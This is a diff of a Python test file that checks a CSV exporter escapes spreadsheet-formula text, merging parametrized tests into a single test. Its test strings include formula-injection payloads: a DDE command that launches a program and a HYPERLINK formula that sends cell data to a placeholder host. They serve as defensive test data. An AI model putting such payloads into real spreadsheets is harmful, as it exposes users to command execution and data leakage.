@@ -1,4 +1,4 @@
-"""CSV for spreadsheets: texts that they would take for formulas are texts, numbers are numbers."""
+"""CSV for spreadsheets: texts that look like formulas stay texts, numbers stay numbers."""
 
 from __future__ import annotations
 
@@ -7,35 +7,21 @@ import io
 from dataclasses import replace
 
 import pandas as pd
-import pytest
 
 from jestlab.analysis import published
 from jestlab.analysis.published.files import render
 from jestlab.analysis.spreadsheets import csv_cell, from_csv_cell, to_csv
 
-FORMULAS = [
-    "=1+1",
-    '=HYPERLINK("http://x/"&A1)',
-    "+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1)",
-    "\t=1",
-    "\r=1",
-    "-",
-]
 
-
-@pytest.mark.parametrize("text", FORMULAS)
-def test_a_formula_becomes_text(text):
-    assert csv_cell(text) == "'" + text
-    assert from_csv_cell(csv_cell(text)) == text
-    assert from_csv_cell(csv_cell("'" + text)) == "'" + text
-
-
-@pytest.mark.parametrize("value", ["-1.5", "+3e-4", "-inf", "joint", "", "a=b", "'quoted'", -1.5, None, True])
-def test_numbers_and_other_texts_stay_as_they_are(value):
-    assert csv_cell(value) is value
-    assert not isinstance(value, str) or from_csv_cell(value) == value
+def test_escapes_formulas_alone():
+    link = '=HYPERLINK("http://x/"&A1)'
+    for text in ("=1+1", link, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "-"):
+        assert csv_cell(text) == "'" + text
+        assert from_csv_cell(csv_cell(text)) == text
+        assert from_csv_cell(csv_cell("'" + text)) == "'" + text
+    for value in ("-1.5", "+3e-4", "-inf", "joint", "", "a=b", "'quoted'", -1.5, None, True):
+        assert csv_cell(value) is value
+        assert not isinstance(value, str) or from_csv_cell(value) == value
 
 
 def test_a_frame_with_names_that_are_formulas():
